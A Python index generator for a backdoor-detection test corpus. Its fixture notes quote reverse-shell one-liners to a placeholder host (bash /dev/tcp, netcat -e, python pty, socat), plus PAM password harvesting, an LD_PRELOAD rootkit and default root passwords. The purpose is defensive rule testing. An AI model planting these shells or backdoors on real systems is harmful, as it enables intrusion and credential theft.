add("access/devtcp-shell/etc/rc.local", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "A reverse shell on bash's /dev/tcp, retried every five minutes: bash -i >& /dev/tcp/192.0.2.44/8443 0>&1 (line 3).")
add("access/devtcp-shell/etc/systemd/system/netcheck.service", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "ExecStart=/bin/bash -c 'exec 5<>/dev/tcp/192.0.2.44/443; sh <&5 >&5 2>&5': a shell on a descriptor bash "
    "connected out (the command read inside -c).")
add("access/devtcp-healthcheck/etc/init.d/S40app", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [],
    "Hard negative: /dev/tcp used only to wait for ports to answer (echo > /dev/tcp/127.0.0.1/$DB_PORT in a "
    "loop, timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'), no shell on the socket.")
add("access/cron-shell/etc/crontab", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "@reboot root sleep 60 && bash -i >& /dev/tcp/192.0.2.44/9001 0>&1 (line 6) after Debian's hourly run-parts line.")
add("access/cron-shell/var/spool/cron/crontabs/root", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "Root's own crontab (no user field): */10 * * * * nc 192.0.2.44 9002 -e /bin/sh, a netcat reverse shell every ten minutes.")
add("access/cron-benign/etc/cron.d/backup", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [],
    "Hard negative: a nightly backup job, and an @reboot sh -c that waits for a port with nc -z and starts a daemon.")
add("access/profile-shell/etc/profile.d/motd.sh", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "A profile.d snippet that starts bash -i >& /dev/tcp/192.0.2.44/7000 0>&1 under nohup bash -c at every login (line 3).")
add("access/profile-shell/root/.bashrc", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "Root's .bashrc runs nc -e /bin/sh 192.0.2.44 7001 in the background (line 4).")
add("access/profile-benign/etc/profile.d/prompt.sh", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [],
    "Hard negative: a prompt, and echo > /dev/tcp/127.0.0.1/8125 to check that a local agent answers.")
add("access/udev-shell/etc/udev/rules.d/99-usb-serial.rules", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "A udev rule whose RUN+= starts /bin/sh -c 'nohup bash -i >& /dev/tcp/192.0.2.44/5555 0>&1 &' when a USB serial adapter appears.")
add("access/udev-benign/etc/udev/rules.d/60-backup.rules", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [],
    "Hard negative: RUN+= of a backup script for a labelled disk, and a sh -c that writes a sysfs power setting.")
add("access/script-shell/etc/init.d/S98sync", "access-network-shell", "any", "text", "malicious",
    [R["netshell"]], [R["emptyremote"]], [],
    "An init script's start runs a python3 -c one-liner: socket.connect to 192.0.2.44:6000, os.dup2 onto 0, 1, 2, "
    "pty.spawn(\"/bin/sh\") (line 4).")
add("access/script-benign/etc/init.d/S50hostname", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [],
    "Hard negative: python3 -c 'import socket; print(socket.gethostname())': a socket module, no connection, no shell.")
add("access/socat-shell/etc/systemd/system/diag.service", "access-network-shell", "any", "text",
    "malicious", [R["netshell"]], [], [],
    "ExecStart=socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr.")
add("access/inetd-shell/etc/inetd.conf", "access-network-shell", "any", "text", "malicious",
    [R["rootlogin"], R["netshell"]], [R["rootweak"]], [],
    "Port 2323 served by /bin/sh sh -i (line 3); line 2 is an ordinary telnetd with login "
    "(no account files in this tree).")
add("access/xinetd-telnet-shell/etc/xinetd.d/telnet", "access-network-shell", "any", "text",
    "malicious", [R["netshell"]], [], [],
    "in.telnetd -h -L /bin/sh (netkit's login-program option), and a service whose server is /bin/sh.")
add("access/dropbear-blank/etc/init.d/dropbear", "access-blank-passwords", "any", "text", "suspicious",
    [R["rootlogin"], R["emptyremote"]], [R["netshell"], R["rootweak"]], [],
    "start-stop-daemon -x $DAEMON -- $ARGS with ARGS=\"-R -B -p 22\" (variables expanded).")
add("access/dropbear-blank/etc/default/dropbear", "access-blank-passwords", "any", "text",
    "suspicious", [R["rootlogin"], R["emptyremote"]], [], [], "DROPBEAR_EXTRA_ARGS=\"-B\".")
add("access/dropbear-keys-only/etc/init.d/dropbear", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [], "Hard negative: dropbear -R -s -p 22 (no password logins).")
add("access/pam-exec-harvest/etc/pam.d/common-auth", "access-pam-password-exposed", "any", "text", "malicious",
    [R["pamexec"], R["pammissing"]], [], [],
    "Debian's common-auth with one line more: auth optional pam_exec.so quiet expose_authtok "
    "/usr/local/sbin/pam-audit (line 5), which hands every typed password to that program. The tree "
    "holds no modules, so the missing-module rule (low) names them too.")
add("access/pam-exec-notify/etc/pam.d/sshd", "access-benign", "any", "text", "clean",
    [R["pammissing"]], [R["pamexec"]], [],
    "Hard negative: pam_exec for a login notice on a session line (seteuid, no expose_authtok), and a "
    "commented-out auth line with expose_authtok.")
add("access/sshd-empty-passwords/etc/ssh/sshd_config", "access-blank-passwords", "any", "text",
    "suspicious", [R["emptyremote"]], [R["rootlogin"], R["rootweak"]], [], "PermitEmptyPasswords yes (line 3).")
add("access/sshd-keys-only/etc/ssh/sshd_config", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES + [R["rootlogin"]], [], "Hard negative: keys only (PasswordAuthentication no, prohibit-password).")
add("access/sshd-root-default/etc/ssh/sshd_config", "access-root-default-remote", "any", "text",
    "malicious", [R["rootlogin"], R["rootweak"]], [R["emptyremote"]], [],
    "PermitRootLogin yes with passwords on; root's password in etc/shadow is admin (SHA-512).")
add("access/sshd-root-default/etc/shadow", "access-default-password", "any", "text", "malicious",
    [R["defaultcred"]], [], [], "root:admin as SHA-512.")
add("access/sshd-root-default/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root, daemon, nobody.")
add("access/sshd-root-strong/etc/ssh/sshd_config", "access-benign", "any", "text", "clean",
    [], REMOTE_RULES, [], "Hard negative: PermitRootLogin yes over a strong yescrypt root password.")
add("access/sshd-root-strong/etc/shadow", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "Strong yescrypt root password.")
add("access/sshd-root-strong/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root, daemon, nobody.")
add("access/telnet-root-default/etc/inittab", "access-root-default-remote", "any", "text",
    "malicious", [R["rootlogin"], R["rootweak"]], [R["netshell"]], [],
    "telnetd -F with its login program, while root's DES hash in etc/shadow is xc3511.")
add("access/telnet-root-default/etc/shadow", "access-default-password", "any", "text", "malicious",
    [R["defaultcred"]], [], [], "root:xc3511 as a traditional DES hash.")
add("access/telnet-root-default/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root, daemon, nobody.")
add("access/vendor-key/root/.ssh/authorized_keys", "access-shipped-key", "any", "text", "suspicious",
    [R["authkey"]], [], [], "An ed25519 key with comment support@vendor-build for root.")
add("access/vendor-key/home/backup/.ssh/authorized_keys", "access-shipped-key", "any", "text",
    "suspicious", [R["authkey"]], [], [], "The same key for the system account backup (UID 34), with a from= option.")
add("access/vendor-key/home/alice/.ssh/authorized_keys", "access-benign", "any", "text", "clean",
    [], [R["authkey"]], [], "Hard negative: an ordinary user's (UID 1000) own key.")
add("access/vendor-key/etc/passwd", "access-benign", "any", "text", "clean",
    [], ACCOUNT_RULES, [], "root, daemon, nobody, backup (34), alice (1000).")

# ---- rootfs ----------------------------------------------------------------------

add("rootfs/etc/ld.so.preload", "rootfs-ld-so-preload", "any", "text", "malicious",
    [R["preload"]], [], [],
    "Names /usr/lib/libprocesshider.so, which exists in the tree (the x86_64 rootkit).")
add("rootfs/etc/environment", "rootfs-ld-preload-env", "any", "text", "malicious",
    [R["env"]], [R["preload"]], [], "LD_PRELOAD=/usr/lib/libprocesshider.so (line 3).")
add("rootfs/root/.bashrc", "rootfs-ld-preload-env", "any", "text", "malicious",
    [R["env"]], [R["preload"]], [], "Root's .bashrc: export LD_PRELOAD=/usr/lib/libprocesshider.so (line 4) for interactive shells.")
add("rootfs/etc/systemd/system/x.service", "rootfs-ld-preload-env", "any", "text", "malicious",
    [R["env"]], [], [], "Environment=LD_PRELOAD=/usr/lib/libprocesshider.so for an sshd unit.")
add("rootfs/etc/systemd/system/benign.service", "rootfs-benign", "any", "text", "clean",
    [], [R["env"]], [], "Unit with Environment=LANG/TZ only.")
add("rootfs/etc/pam.d/sshd", "rootfs-pam-config", "any", "text", "malicious",
    [R["pamcfg"], R["pammissing"]], [], [],
    "auth sufficient pam_backdoor.so first in the stack; the module is "
    "usr/lib/x86_64-linux-gnu/security/pam_backdoor.so in the tree. pam_nologin.so and "
    "pam_loginuid.so are not in the tree.")
add("rootfs/etc/pam.d/login", "rootfs-benign", "any", "text", "clean",
    [], [R["pamcfg"]], [],
    "Stock-looking stack (pam_faildelay, pam_nologin, pam_access, pam_limits); none of these "
    "modules is in the tree, which the low-severity missing-module rule reports (clean verdict).")
add("rootfs/etc/hostname", "rootfs-benign", "any", "text", "clean", [],
    [R["preload"], R["env"], R["pamcfg"], R["pammissing"]], [], "Filler.")
add("rootfs/usr/lib/libprocesshider.so", "preload-rootkit", "x86_64", "elf-shared-object",
    "malicious", [R["hiding"]], [],
    [export("readdir"), export("readdir64"), imports("dlsym")],
    "Copy of preload/rootkit/x86_64/libprocesshider.so, named by etc/ld.so.preload, "
    "etc/environment and x.service.")
add("rootfs/usr/lib/x86_64-linux-gnu/security/pam_backdoor.so", "pam-master-password", "x86_64",
    "elf-shared-object", "malicious", [R["pam"]], [],
    [export("pam_sm_authenticate"), imports("pam_get_authtok")],
    "Copy of auth/pam-master-password/x86_64/pam_backdoor.so, used by etc/pam.d/sshd.")
add("rootfs/lib/x86_64-linux-gnu/libhello.so.1", "arch-coverage", "x86_64", "elf-shared-object",
    "clean", [], ELF_RULES, [P(["-d"], "SONAME.*\\[libhello\\.so\\.1\\]")],
    "Copy of arch/hello/x86_64/libhello.so (clean filler).")
add("rootfs/lib/x86_64-linux-gnu/libhello.so", "arch-coverage", "x86_64", "symlink", "clean",
    [], ELF_RULES, [], "Relative symlink -> libhello.so.1 (same directory).")
add("rootfs/usr/lib/x86_64-linux-gnu/libhello.so.1", "arch-coverage", "x86_64", "symlink",
    "clean", [], ELF_RULES, [],
    "Relative symlink -> ../../../lib/x86_64-linux-gnu/libhello.so.1 (stays inside the tree).")

# ---- arch coverage ---------------------------------------------------------------

REL_ARCHS = {"i386", "armhf", "mipsel", "mips"}
for a in ALL_ARCHS:
    ifunc = a not in ("mips", "mipsel")
    props = [export("hello_greet@@HELLO_1\\.0"),
             dyn("FUNC +GLOBAL +DEFAULT .*hello_version@HELLO_1\\.0"),
             dyn("FUNC +GLOBAL +DEFAULT .*hello_version@@HELLO_2\\.0"),
             P(["-V"], "Version definition section '\\.gnu\\.version_d'"),
             P(["-S", "-W"], "\\.init_array"), P(["-S", "-W"], "\\.fini_array"),
             P(["-d"], "SONAME.*\\[libhello\\.so\\.1\\]")]
    if ifunc:
        props.append(dyn("IFUNC +GLOBAL +DEFAULT .*hello_sum@@HELLO_2\\.0"))
    note = "Benign coverage library: hello_greet/hello_add/hello_calls, hello_version in two " \
           "versions (HELLO_1.0 and default HELLO_2.0), " + \
           ("IFUNC hello_sum, " if ifunc else "no IFUNC (MIPS), ") + \
           "constructor + destructor. Unstripped."
    add("arch/hello/%s/libhello.so" % a, "arch-coverage", a, "elf-shared-object", "clean",
        [], ELF_RULES, props, note + gap_note(a))
    add("arch/hello/%s/hello" % a, "arch-coverage", a, "elf-executable", "clean", [], ELF_RULES,
        [P(["-h"], "Type: +DYN"), P(["-d"], "NEEDED.*\\[libhello\\.so\\.1\\]"),
         P(["-V"], "Version needs section '\\.gnu\\.version_r'"),
         P(["-V"], "HELLO_2\\.0"), P(["-l", "-W"], "INTERP")],
        "PIE executable linked against libhello.so.1 (versioned imports HELLO_1.0/HELLO_2.0), "
        "with its own constructor. Never run.")
    rel = "\\.rel\\." if a in REL_ARCHS else "\\.rela\\."
    add("arch/hello/%s/hello.o" % a, "arch-coverage", a, "elf-relocatable", "clean", [],
        ELF_RULES,
        [P(["-h"], "Type: +REL"), P(["-r", "-W"], "Relocation section '%stext'" % rel),
         P(["-S", "-W"], "\\.init_array"), P(["-s", "-W"], "FUNC +GLOBAL +DEFAULT .*[0-9]+ hello_add" + END)] +
        ([P(["-s", "-W"], "IFUNC +GLOBAL +DEFAULT .*[0-9]+ hello_sum" + END)] if ifunc else []),
        "PIC relocatable object of libhello.c; uses %s relocation sections." %
        ("REL (.rel.*)" if a in REL_ARCHS else "RELA (.rela.*)"))
    if a in ("x86_64", "armhf"):
        add("arch/hello/%s/libhello-stripped.so" % a, "arch-coverage", a, "elf-shared-object",
            "clean", [], ELF_RULES,
            [export("hello_greet@@HELLO_1\\.0"), P(["-S", "-W"], "\\.dynsym")],
            "strip --strip-all copy of libhello.so: no .symtab/.strtab, dynamic symbols only.",
            absent=[P(["-S", "-W"], "\\.symtab")])


# ---- variant matrix ------------------------------------------------------------------

def variant_property(prop, variant):
    """A base property as it holds for another build of the same source, or None when the
    variant cannot have it (no .symtab once stripped, no canary import without -fstack-protector).
    lld leaves OS/ABI at SYSV, so readelf names an IFUNC symbol `<OS specific>: 10`."""
    args, regex = prop["readelf"], prop["matches"]
    if variant.stripped and "-s" in args:
        return None
    if variant.ssp == "off" and "__stack_chk_fail" in regex:
        return None
    regex = regex.replace("IFUNC", "(IFUNC|<OS specific>: 10)")
    if variant.linker == "lld":     # lld keeps the visibility of a symbol it made local
        regex = regex.replace("LOCAL +DEFAULT", "LOCAL +(DEFAULT|HIDDEN)")
    return P(args, regex)


def variant_note(variant):
    v = variant.record()
    return (" Variant %s: %s, %s, -%s, frame pointer %s, stack protector %s%s." % (
        variant.name, v["compiler"], "lld" if v["linker"] == "lld" else "GNU ld", v["opt"], v["fp"],
        v["ssp"], ", -fvisibility=hidden and strip --strip-all" if variant.stripped else ""))


def expand_variants():
    """Every indexed base build of a samples.SAMPLES entry gets one entry per variant."""
    for entry in list(SAMPLES):
        found = samples.find(entry["path"])
        if not found:
            continue
        sample, arch, base = found
        entry["variant"] = base.record(sample)
        for variant in samples.VARIANTS[1:]:
            if not sample.builds(variant):
                continue
            clone = dict(entry)
            clone["path"] = sample.path(arch, variant)
            clone["variant"] = variant.record(sample)
            clone["properties"] = [p for p in (variant_property(p, variant)
                                               for p in entry["properties"]) if p]
            if "absentProperties" in entry:
                clone["absentProperties"] = [p for p in (variant_property(p, variant)
                                                         for p in entry["absentProperties"]) if p]
            clone["notes"] = entry["notes"] + variant_note(variant)
            SAMPLES.append(clone)


expand_variants()


# ---- output ----------------------------------------------------------------------

README_HEAD = """# Backsight corpus

Replicas of ELF backdoor techniques (positives) and look-alike legitimate code (hard
negatives), built from the C/shell sources in this directory for several
architectures, plus test blobs and a small root filesystem. Each sample exists so
that a Backsight rule can be shown to fire on the technique and to stay quiet on the
look-alikes. `index.json` is the machine-readable form of the table below.

**The samples are inert.** They are compiled only: no test, tool or script ever
executes, loads or `dlopen()`s any of them, and nothing in this tree should. Their
"payloads" only count calls or `echo`. They were written from scratch from the public
descriptions of the techniques (the project's shared TECHNIQUES.md); no code, rules
or binaries were copied from real malware or other projects.

## Rebuilding

    make corpus            # or: bash Corpus/build.sh

`build.sh` installs missing cross compilers with apt-get when run as root
(`gcc-<triple>`, `libc6-dev-<arch>-cross`, `clang-14`, `lld-14`; Debian 12 package names),
removes every built file, rebuilds all samples from source (the matrix samples with
`build-matrix.py`, the others in `build.sh` itself), regenerates the blobs
(`blobs/make-blobs.py`), the rootfs copies, `index.json` and this README
(`make-index.py`), and runs `check-index.py`. Build intermediates go to
`Corpus/.build-tmp/`, which is deleted at the end. Set `CORPUS_SKIP_MISSING=1` to skip
architectures whose compiler is missing instead of failing.

## The variant matrix

Every technique replica and every hard negative that is a shared object is declared once, in
the `SAMPLES` table of `samples.py`: directory, output name, compiler arguments (sources,
sample-specific flags), architectures. `build-matrix.py` builds each entry for each of its
architectures in every variant of `VARIANTS` (same file), and `make-index.py` indexes every
variant with the rules, verdict and properties written once for the sample (a property that a
variant cannot have, such as a `.symtab` symbol of a stripped build, is left out for it).
**Adding a sample** is one `Sample(...)` line in `samples.py` plus its `add(...)` entry in
`make-index.py` (for the base path `<dir>/<arch>/<out>`); the variants follow.

The base variant (`gcc-O2`) is the build the corpus always had, at `<dir>/<arch>/<out>`; the
byte signatures in `Rules/signatures/` match it and are expected to miss the others. Every other
variant is at `<dir>/<arch>/<variant>/<out>`. Together the variants give every option on every
architecture of a sample: gcc 12 and clang 14 (`clang-14 --target=<triple>`, which finds the gcc
cross sysroot and libgcc by itself), GNU ld and lld (`-fuse-ld=lld --ld-path=ld.lld-14`),
`-O0`/`-O2`/`-Os`, `-fno-omit-frame-pointer`/`-fomit-frame-pointer`,
`-fstack-protector-all`/`-fno-stack-protector` (the variant's flags come after the sample's, so
a sample's own `-fstack-protector-all` is switched off in the no-protector variants), and
`-fvisibility=hidden` + `strip --strip-all` (exports are marked `BS_API`, from
`support/bs_api.h`, as real hidden-visibility libraries mark theirs). `index.json` records each
matrix file's `variant` (name, compiler, linker, opt, fp, ssp, stripped, visibility). lld leaves
the ELF OS/ABI at SYSV, so readelf shows an IFUNC symbol as `<OS specific>: 10` (the loader still
runs the resolver), and keeps a localized symbol's HIDDEN visibility in `.symtab`; on MIPS it
links with `-z notext` because libgcc.a's 64-bit division helpers carry a non-PIC `.eh_frame`.

The rules' `examples:` lists are regenerated from `index.json` with
`python3 Rules/examples-from-index.py $(find Rules -name '*.yaml' -not -path 'Rules/lists/*')`,
so `backsight rules test` proves every rule on every variant. A variant build a rule does not
hold on yet is listed, with its reason, in `Rules/matrix-known-gaps.tsv` (left out of the
examples, kept in the index); that list may only shrink. Signature rules (`Rules/signatures/`)
keep hand-written examples on the base build only.

Builds are deterministic: fixed flags (`-O2 -fPIC`, `-ffile-prefix-map=<Corpus>=.`,
relative source paths, `-Wl,--build-id=sha1`, `-z max-page-size=4096`,
`-z noseparate-code`), no timestamps, `LC_ALL=C`, `SOURCE_DATE_EPOCH=0`. Two runs, and
runs from different checkout paths, give byte-identical files with the Debian 12
toolchains (GCC 12.2, binutils 2.40, clang/lld 14, glibc 2.36 cross libcs, Python's lzma
on liblzma 5.4). A different compiler, binutils or liblzma version will produce different bytes
(the compressed blobs depend on the liblzma encoder version); `check-index.py` checks
properties, not hashes, so it still passes. `python3 blobs/make-blobs.py --check`
reports blob drift.

## Checking

    python3 Corpus/check-index.py

verifies that every indexed path exists, that every built file is indexed, and that
every `properties` entry (a `readelf` invocation, file appended, whose stdout must match
the extended regex) matches, and every `absentProperties` entry does not match.

## index.json

`{"samples": [...]}`, one object per file, paths relative to `Corpus/`:

- `technique`, `arch` (`x86_64`, `i386`, `aarch64`, `armhf`, `mipsel`, `mips` (big
  endian), `riscv64`, `ppc64le`, `ppc64` (big endian, ELFv1), or `any`), `kind`
  (`elf-shared-object`, `elf-executable`, `elf-relocatable`, `blob`, `text`, `symlink`)
- `verdict`: `clean`, `suspicious` or `malicious` (expected overall verdict)
- `rules`: rule ids that must match; `mustNotMatch`: rule ids that must not match
- `properties`: `{"readelf": [args], "matches": "ERE"}`; the test appends the file path,
  runs readelf and searches the regex (unanchored) in stdout. Regexes use only
  constructs common to POSIX ERE, Python `re` and NSRegularExpression.
- `absentProperties` (optional, an addition to the base shape): same form, the regex
  must NOT match (e.g. no `.comment` section, no plaintext target name).
- `notes`: where the interesting code is, and toolchain gaps.

## Toolchain gaps

- **MIPS (mipsel, mips)**: GCC 12 rejects `__attribute__((ifunc))` for MIPS and gas
  rejects `%gnu_indirect_function` there (glibc has no IFUNC on MIPS either), so
  `ifunc/xz-got-hijack`, `ifunc/xz-stack-handoff`, `ifunc/xz-audit-hook` and
  `ifunc/glibc-dispatch` are built for x86_64, aarch64 and armhf only, and
  `arch/hello/{mipsel,mips}/libhello.so` has no IFUNC. Real MIPS firmware (musl,
  uClibc) has no IFUNC either.
- **x86-64 only by design**: `ifunc/xz-object` (large code model relocations are an x86-64
  concept) and `kernel/syscall-hook` (CR0 is an x86 register). The other `kernel/` samples
  are built for x86_64 and aarch64.
- The non-x86-64 stack-handoff builds call through the GOT with a volatile function
  pointer; only x86-64 has the `call *sym@GOTPCREL(%rip)` form and the slot rewrite.
- **ppc64** is big-endian ELFv1 (function descriptors in `.opd`); ppc64le adds a
  `[<localentry>: N]` column in readelf symbol output, which the regexes allow for.

## Committed files versus a rebuild

Every built file in the tree is what `build.sh` produces on Debian 12 (bookworm) with
the toolchain versions above; a rebuild there changes nothing. Files that are not built
but written by hand: the rootfs configuration files under `rootfs/etc/`, the m4 files
under `blobs/m4/`, and all sources. `preload/rootkit/src/bs_strings.h` is generated by
`gen-strings.py` (run by build.sh; deterministic).

## Notes for rule authors

- Everything is unstripped (full `.symtab`) except the `gcc-O2-stripped-hidden` variants and
  `arch/hello/{x86_64,armhf}/libhello-stripped.so`; the interesting static functions are named in
  each row's notes.
- IFUNC symbol values point at the resolvers (`crc32_resolve`, `crc64_resolve`,
  `popcount_resolve`, `sum_resolve`, `hello_sum_resolve`).
- The PAM samples link against a build-time stub `libpam.so.0` (DT_NEEDED only); the PAM
  API is declared in `support/bs_pam.h`.
- The preload samples define `__xstat`-family symbols on every architecture (a
  rootkit exports them whether or not the libc still has them).
- `auth/pam-reads-file` also calls `strncmp(argv[i], "file=", 5)` (a `.rodata` literal)
  inside `pam_sm_authenticate` after inlining; the literal is compared with a module
  argument, not with the `pam_get_authtok` result. A master-password rule has to follow
  the password operand, not just "str*cmp against .rodata".
- `preload/rootkit-xor`: `libc.so.6` and the hook names still appear in `.dynstr`
  (DT_NEEDED and exports); nothing readable is in `.rodata`. The encoded arrays are
  `bs_k00`..`bs_k18` in `.symtab`, decoded by the static function `xs` (key 0x42).
- `preload/hider-*` are one source, `preload/hider/src/hider.c`, configured with `BS_*` macros
  (the file's header lists them; `samples.py` names each configuration). The fetch of the
  originals is the variable: `dlsym(RTLD_NEXT)`, `dlvsym`, `dlopen` of libc by soname or full path
  then `dlsym(handle)`, `dlvsym` over every `GLIBC_2.x`, libc's `syscall()`, inline system calls,
  or an exported `dlsym` of its own. XOR strings use key 0x5a (static `unxor`); run-time strings
  are volatile byte stores of immediates, so nothing readable is in `.rodata`.
- `preload/sanitizer-like/src/interceptor_names.h` was picked once from glibc 2.36's export list
  (committed, not regenerated); the sample exports each name and `__interceptor_<name>`.
- `ifunc/glibc-dispatch/x86_64`: `sum_resolve` calls `__builtin_cpu_init`, i.e. the
  local libgcc function `__cpu_indicator_init` (linked in statically, itself a
  constructor): a resolver without `cpuid` that calls a local function, like glibc's
  and libatomic's, and still clean.
- `ifunc/xz-object`: the NOTYPE `.LC0`..`.LC3` locals are what large-model code
  normally keeps (GOTOFF64 to constants); only the FUNC `.Lcrc_helper` is the tell.
- The kernel samples are freestanding relocatables (`-ffreestanding -nostdinc`, the shared
  `kernel/src/kshape.h` for the few kernel types whose layout a fact depends on) made with
  `ld -r --build-id=sha1`, not kbuild: Debian's arm64 kernel-header package ships arm64 host
  tools (fixdep, modpost) that do not run on an amd64 build machine. They therefore have no
  modpost output (`.mod.c`, `__versions` except where a sample writes one, signatures). The
  CR0 writes of `syscall-hook` are `0f 22` (`mov %reg,%cr0`) in `init_module` and
  `cleanup_module`.
- Blob facts (from `make-blobs.py`): `bad-3` holds 3 streams; swapped bytes sit in
  framing (2) and in LZMA2 data (9); the `.lzma` tail offset is `tail -c +16236`; the xz
  stream in `good-embedded.bin` starts at offset 509.

## Samples
"""


def md_escape(s):
    return s.replace("|", "\\|").replace("\n", " ")


def variant_counts(samples_sorted):
    """Rows of the per-technique variant table: technique, verdict, files, variants, and
    how many files have each option."""
    by = {}
    for s in samples_sorted:
        if "variant" not in s:
            continue
        by.setdefault((s["technique"], s["verdict"]), []).append(s)
    rows = ["| technique | verdict | files | archs | variants | gcc/clang | GNU ld/lld | -O0/-O2/-Os "
            "| fp on/off | ssp on/off | stripped |",
            "| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |"]
    for (tech, verdict), group in sorted(by.items()):
        vs = [g["variant"] for g in group]

        def n(key, value):
            return sum(1 for v in vs if v[key] == value)
        rows.append("| %s | %s | %d | %d | %d | %d/%d | %d/%d | %d/%d/%d | %d/%d | %d/%d | %d |" % (
            tech, verdict, len(group), len({g["arch"] for g in group}),
            len({v["name"] for v in vs}), n("compiler", "gcc"), n("compiler", "clang"),
            n("linker", "bfd"), n("linker", "lld"), n("opt", "O0"), n("opt", "O2"), n("opt", "Os"),
            n("fp", "on"), n("fp", "off"), len(vs) - n("ssp", "off"), n("ssp", "off"),
            n("stripped", True)))
    return rows


def main():
    samples_sorted = sorted(SAMPLES, key=lambda s: s["path"])
    paths = [s["path"] for s in samples_sorted]
    assert len(paths) == len(set(paths)), "duplicate paths in index"
    with open(os.path.join(HERE, "index.json"), "w") as f:
        json.dump({"samples": samples_sorted}, f, indent=2, sort_keys=False)
        f.write("\n")
    rows = ["| path | technique | arch | verdict | must match | must not match | notes |",
            "| --- | --- | --- | --- | --- | --- | --- |"]
    for s in samples_sorted:
        if "variant" in s and s["variant"]["name"] != samples.VARIANTS[0].name:
            continue        # the variants are counted below, not listed
        rows.append("| `%s` | %s | %s | %s | %s | %s | %s |" % (
            s["path"], s["technique"], s["arch"], s["verdict"],
            "<br>".join("`%s`" % r for r in s["rules"]) or "-",
            "<br>".join("`%s`" % r for r in s["mustNotMatch"]) or "-",
            md_escape(s["notes"])))
    variants = ["| variant | compiler | linker | opt | frame pointer | stack protector | stripped, hidden |",
                "| --- | --- | --- | --- | --- | --- | --- |"]
    for v in samples.VARIANTS:
        r = v.record()
        variants.append("| `%s`%s | %s | %s | -%s | %s | %s | %s |" % (
            v.name, " (base)" if v.base else "", r["compiler"],
            "lld" if r["linker"] == "lld" else "GNU ld", r["opt"], v.fp, v.ssp,
            "yes" if v.stripped else "no"))
    with open(os.path.join(HERE, "README.md"), "w") as f:
        f.write(README_HEAD)
        f.write("\n%d files, %d of them in the variant matrix.\n\n" % (
            len(samples_sorted), sum(1 for s in samples_sorted if "variant" in s)))
        f.write("### Variants\n\n" + "\n".join(variants) + "\n\n")
        f.write("### Variants per technique\n\nFiles of each technique in the matrix, and how many "
                "have each option (ssp on = -fstack-protector-all).\n\n")
        f.write("\n".join(variant_counts(samples_sorted)) + "\n\n")
        f.write("### Base builds and the other samples\n\nThe base build of each matrix sample "
                "(its variants sit in `<arch>/<variant>/` beside it, same rules) and every sample "
                "outside the matrix.\n\n")
        f.write("\n".join(rows) + "\n")


if __name__ == "__main__":
    main()
